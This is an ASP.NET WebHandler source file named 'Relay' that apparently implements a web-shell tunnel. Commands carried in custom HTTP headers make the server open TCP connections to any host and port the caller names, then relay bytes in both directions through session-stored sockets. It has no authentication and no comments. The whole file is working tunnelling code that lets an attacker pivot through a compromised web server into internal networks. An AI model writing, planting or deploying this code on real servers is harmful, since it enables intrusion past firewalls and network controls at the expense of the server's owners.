<%@ WebHandler Language="C#" Class="Relay" %>
using System;
using System.Web;
using System.Web.SessionState;
using System.Net.Sockets;

public class Relay : IHttpHandler, IRequiresSessionState
{
    public void ProcessRequest(HttpContext ctx)
    {
        string op = ctx.Request.Headers.Get("X-OP");
        if (op == "C") {
            TcpClient tc = new TcpClient();
            tc.Connect(ctx.Request.Headers.Get("X-H"), int.Parse(ctx.Request.Headers.Get("X-P")));
            ctx.Session["tc"] = tc;
        } else if (op == "W") {
            NetworkStream ns = ((TcpClient)ctx.Session["tc"]).GetStream();
            byte[] b = ctx.Request.BinaryRead(ctx.Request.ContentLength);
            ns.Write(b, 0, b.Length);
        } else if (op == "R") {
            NetworkStream ns = ((TcpClient)ctx.Session["tc"]).GetStream();
            byte[] b = new byte[8192];
            int n = ns.Read(b, 0, b.Length);
            ctx.Response.OutputStream.Write(b, 0, n);
        }
    }
    public bool IsReusable { get { return false; } }
}
